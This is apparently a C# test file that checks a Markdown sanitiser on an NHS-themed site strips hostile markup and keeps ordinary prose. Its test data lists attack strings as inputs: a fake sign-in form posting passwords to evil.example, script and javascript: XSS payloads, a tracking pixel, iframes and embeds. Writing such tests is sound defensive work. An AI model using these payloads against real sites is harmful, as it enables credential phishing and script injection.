using System.Net;
using Academy.Exemplars.Tests.Support;
using Academy.Theme.Nhs.Content;

namespace Academy.Exemplars.Tests.Security;

/// Issue 8, point 5: Markdown written by one person and read by another keeps only what prose needs. One case per
/// thing a hostile author might try, on the site's one sanitiser (SafeMarkdown), then the same through a real page.
public sealed class SanitiserTests(AcademySite site) : IClassFixture<AcademySite>
{
    [Theory]
    [InlineData("<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Sign in</button></form>", "<form", "<input", "<button", "evil.example")]
    [InlineData("<select name=\"x\"><option>One</option></select>", "<select", "<option")]
    [InlineData("<textarea name=\"comment\">Type here</textarea>", "<textarea")]
    [InlineData("<p style=\"position:fixed;top:0;left:0;width:100%\">Overlay</p>", "style=")]
    [InlineData("![tracker](https://evil.example/pixel.png)", "<img", "evil.example")]
    [InlineData("<img src=\"/favicon.ico\" onerror=\"alert(1)\">", "<img", "onerror")]
    [InlineData("<a href=\"https://example.nhs.uk\" target=\"_blank\">Opens a new tab</a>", "target=")]
    [InlineData("[click](javascript:alert(1))", "javascript:")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>", "data:")]
    [InlineData("<script>alert(1)</script>", "<script", "alert(1)")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>", "<iframe", "evil.example")]
    [InlineData("<svg><a href=\"#\"><text>x</text></a></svg>", "<svg")]
    [InlineData("<div class=\"nhsuk-header\" id=\"maincontent\" data-module=\"nhsuk-header\">Fake header</div>", "class=", "id=", "data-module")]
    [InlineData("- [x] a task list item", "<input")]
    [InlineData("<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">", "<object", "<embed")]
    public void Sanitise_HostileMarkup_RemovesWhatProseDoesNotNeed(string markdown, params string[] removed)
    {
        var html = SafeMarkdown.ToHtml(markdown).Value!;

        foreach (var needle in removed) Assert.DoesNotContain(needle, html, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("## Progress", "<h2>Progress</h2>")]
    [InlineData("We **went live** in *two* wards", "<p>We <strong>went live</strong> in <em>two</em> wards</p>")]
    [InlineData("- one\n- two", "<li>one</li>")]
    [InlineData("1. first\n2. second", "<ol>")]
    [InlineData("[NHS England](https://www.england.nhs.uk/)", "<a href=\"https://www.england.nhs.uk/\">NHS England</a>")]
    [InlineData("[email us](mailto:team@nhs.net)", "<a href=\"mailto:team@nhs.net\">email us</a>")]
    [InlineData("[the trust page](/exemplars/trusts/RTH)", "<a href=\"/exemplars/trusts/RTH\">the trust page</a>")]
    [InlineData("Run `dotnet test`", "<code>dotnet test</code>")]
    [InlineData("> A quote from the board", "<blockquote>")]
    [InlineData("| Ward | Live |\n|---|---|\n| 7B | Yes |", "<td>7B</td>")]
    [InlineData("~~old plan~~", "<del>old plan</del>")]
    public void Sanitise_MarkdownProse_KeepsIt(string markdown, string kept)
    {
        Assert.Contains(kept, SafeMarkdown.ToHtml(markdown).Value!);
    }

    [Fact]
    public async Task ReturnNarrative_WithAFakeSignInForm_ReachesTheReviewerAsProseOnly()
    {
        var lead = await Arrange.LeadAsync(site, "RQ6");
        var reviewer = await Arrange.ReviewerAsync(site);
        var id = await ReturnSteps.StartAsync(lead, "RQ6", await Arrange.ParticipationIdAsync(site, "RQ6"), "2017-03-01");
        var fields = ReturnSteps.CompleteFields("10");
        fields["Form.Narrative"] = "Progress is **good**.\n\n<form action=\"https://evil.example/steal\"><p>Your session expired</p><input name=\"password\"><button>Sign in again</button></form>";
        Assert.Equal(HttpStatusCode.Redirect, (await Forms.PostAsync(lead, $"/exemplars/returns/{id}/edit", fields)).StatusCode);
        await ReturnSteps.SubmitAsync(lead, id);

        var page = await reviewer.GetStringAsync($"/exemplars/returns/{id}");

        Assert.Contains("Progress is <strong>good</strong>.", page);
        Assert.DoesNotContain("evil.example", page);
        Assert.DoesNotContain("Your session expired", page);
        Assert.DoesNotContain("name=\"password\"", page);
    }
}
